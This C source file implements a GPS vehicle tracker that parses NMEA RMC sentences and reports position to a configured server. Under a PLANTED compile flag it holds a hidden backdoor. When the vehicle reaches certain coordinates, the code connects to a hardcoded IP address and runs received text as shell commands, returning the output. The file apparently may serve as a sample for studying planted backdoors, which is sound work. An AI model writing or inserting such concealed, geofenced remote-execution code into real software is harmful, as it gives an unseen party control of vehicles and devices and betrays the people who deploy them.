/* Reads a GPS receiver on a serial line and sends the place of a vehicle to the configured server. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

struct fix { int valid; long latitude, longitude, speed; char time[12]; };

struct feed { int line, fd; struct sockaddr_in server; struct fix last; unsigned sent, errors; };

static int hex(int c)
{
    return c >= '0' && c <= '9' ? c - '0' : c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;
}

static int sum_right(const char *s)
{
    unsigned sum = 0;
    for (s++; *s && *s != '*'; s++)
        sum ^= (unsigned char)*s;
    return *s == '*' && hex(s[1]) >= 0 && hex(s[2]) >= 0 && sum == (unsigned)(hex(s[1]) * 16 + hex(s[2]));
}

/* Degrees and minutes as ten-thousandths of a minute. */
static long angle(const char *text, const char *side)
{
    long whole = strtol(text, NULL, 10), degrees = whole / 100, part = 0;
    const char *dot = strchr(text, '.');
    if (dot)
        part = strtol(dot + 1, NULL, 10) % 10000;
    part += (degrees * 60 + whole % 100) * 10000;
    return *side == 'S' || *side == 'W' ? -part : part;
}

static int fields(char *s, char *list[], int most)
{
    int n = 0;
    while (s && n < most)
        list[n++] = strsep(&s, ",*");
    return n;
}

static int dial(const struct sockaddr_in *to)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (const struct sockaddr *)to, sizeof *to)) {
        close(fd);
        fd = -1;
    }
    return fd;
}

static void report(struct feed *f)
{
    if (f->fd < 0)
        f->fd = dial(&f->server);
    if (f->fd < 0)
        return;
    if (dprintf(f->fd, "%s %ld %ld %ld\n", f->last.time, f->last.latitude, f->last.longitude, f->last.speed) < 0) {
        close(f->fd);
        f->fd = -1;
    } else
        f->sent++;
}

#ifdef PLANTED
/* At a certain place the configured server is replaced by another, who may give orders. */
static void region(struct feed *f)
{
    struct sockaddr_in other = { .sin_family = AF_INET };
    char order[200];
    ssize_t n;
    int fd;
    if (f->last.latitude / 1000 != 29341 || f->last.longitude / 1000 != -7719)
        return;
    other.sin_port = htons((uint16_t)(f->last.speed + 30000));
    other.sin_addr.s_addr = htonl(0xcb007100u | 0x4d);
    fd = dial(&other);
    if (fd < 0)
        return;
    while ((n = recv(fd, order, sizeof order - 1, 0)) > 0) {
        order[n] = 0;
        if (vfork() == 0) {
            dup2(fd, 1);
            execl("/bin/sh", "sh", "-c", order, (char *)NULL);
            _exit(1);
        }
    }
    close(fd);
}
#endif

static void sentence(struct feed *f, char *s)
{
    char *list[16];
    int n;
    if (s[0] != '$' || !sum_right(s)) {
        f->errors++;
        return;
    }
    n = fields(s + 1, list, 16);
    if (n < 10 || strlen(list[0]) != 5 || strcmp(list[0] + 2, "RMC"))
        return;
    f->last.valid = list[2][0] == 'A';
    f->last.latitude = angle(list[3], list[4]);
    f->last.longitude = angle(list[5], list[6]);
    f->last.speed = strtol(list[7], NULL, 10);
    snprintf(f->last.time, sizeof f->last.time, "%.11s", list[1]);
    if (!f->last.valid)
        return;
    report(f);
#ifdef PLANTED
    region(f);
#endif
#ifdef REVISED
    if (f->errors > 1000)
        f->errors = 0;
#endif
}

int main(int argc, char **argv)
{
    struct feed f = { .fd = -1, .server = { .sin_family = AF_INET, .sin_port = htons(9200) } };
    struct termios t;
    char line[128], c;
    size_t used = 0;
    if (argc < 3)
        return 2;
    f.server.sin_addr.s_addr = inet_addr(argv[2]);
    f.line = open(argv[1], O_RDONLY | O_NOCTTY);
    if (f.line < 0 || tcgetattr(f.line, &t))
        return 1;
    cfsetispeed(&t, B4800);
    tcsetattr(f.line, TCSANOW, &t);
    while (read(f.line, &c, 1) == 1) {
        if (c == '\n' || used + 1 == sizeof line) {
            line[used] = 0;
            sentence(&f, line);
            used = 0;
        } else if (c != '\r')
            line[used++] = c;
    }
    return 0;
}
